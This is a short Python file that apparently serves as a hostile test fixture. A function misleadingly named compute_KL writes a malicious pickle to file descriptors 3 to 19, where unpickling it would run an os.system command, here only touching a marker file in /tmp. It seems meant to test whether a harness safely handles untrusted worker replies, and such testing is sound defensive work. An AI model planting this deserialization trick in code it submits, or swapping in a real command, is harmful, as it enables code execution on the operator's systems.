"""Sends a pickle instead of a reply."""

import os
import pickle
import struct


class Trap:
    def __reduce__(self):
        return os.system, ("touch /tmp/hostile_was_here",)


def compute_KL(x):
    data = pickle.dumps(Trap())
    for descriptor in range(3, 20):
        try:
            os.write(descriptor, struct.pack(">II", len(data), 0) + data)
        except OSError:
            continue
